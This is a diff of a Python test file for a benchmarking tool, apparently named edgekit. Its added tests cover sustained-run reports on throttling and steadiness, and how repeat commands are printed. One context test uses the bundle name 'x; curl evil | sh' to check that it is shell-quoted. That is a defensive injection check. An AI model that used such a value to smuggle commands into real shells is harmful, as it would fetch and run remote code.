@@ -40,7 +40,8 @@ def test_a_benchmark_elsewhere_says_whose_figures_these_are_and_how_to_get_the_t
 MEASURED HERE  digits-rpi4: these are the figures of this machine, not of rpi4:
 it is x86_64, rpi4 is aarch64
 predicted for rpi4 by the build: latency p50 10.9 ms and latency p90 12.1 ms
-to measure on rpi4: copy the bundle there and run `python run.py --bench` in it
+to measure on rpi4: `edgekit bench digits-rpi4 --on ssh://USER@HOST`, or copy
+the bundle there and run `python run.py --bench` in it
 
 latency p50   1.71 ms       100 runs in 0.2 s, protocol quick, 4 threads
 latency p90   2.01 ms       99 % sure that the true one is not above this
@@ -155,6 +156,43 @@ def test_a_bundles_name_in_a_command_is_one_word_of_the_shell():
     first, second = repeat_commands(records.bench(), manifest).splitlines()
     assert first == "edgekit bench 'x; curl evil | sh' --quick"
     assert second == "cd 'x; curl evil | sh' && python run.py --bench --quick"
+
+
+def test_a_sustained_benchmark_tells_in_a_sentence_and_in_blocks_what_became_of_it():
+    text = printed(records.sustained(machine=records.PI4), records.manifest(), 130)
+    told = text.partition("In the long run\n")[2].splitlines()
+    assert told[0] == (
+        "steady from 3 min 0 s on; latency p50 there is 1.30 times that of the first minute; "
+        "it throttled: the clock fell from 1800 to 1385"
+    )
+    name, latency, span = told[2].rsplit("   ", 2)
+    assert (name.strip(), span) == ("latency p50", "10 ms to 13 ms")
+    assert latency.strip().startswith("▁▁▁▁")
+    assert latency.endswith("████")
+    assert "protocol sustained" in text
+    assert "MET" in text
+
+
+def test_a_machine_that_tells_nothing_leaves_open_whether_it_throttled():
+    text = " ".join(printed(records.sustained([5.0] * 60, warm=False), records.manifest(), 130).split())
+    assert "steady from the start; latency p50 there is the same as in the first minute" in text
+    assert "whether it throttled this machine does not tell" in text
+    assert "temperature " not in text
+
+
+def test_a_run_that_never_is_steady_says_so():
+    never = records.sustained([5.0 * 1.02**number for number in range(60)], warm=False)
+    text = " ".join(printed(never, records.manifest(), 130).split())
+    assert "not steady after 10 min 0 s: judged from 6 min 40 s on" in text
+
+
+def test_a_sustained_run_is_repeated_as_long():
+    assert repeat_commands(records.sustained(), records.manifest()) == (
+        "edgekit bench digits-rpi4 --sustained 600s\ncd digits-rpi4 && python run.py --bench --sustained 600"
+    )
+    lines = " ".join(protocol_lines(records.sustained()))
+    assert "steady from the first window on after which every median" in lines
+    assert "the percentiles rest on 2" in lines
 
 
 def test_facts_that_the_system_does_not_tell_are_left_out():
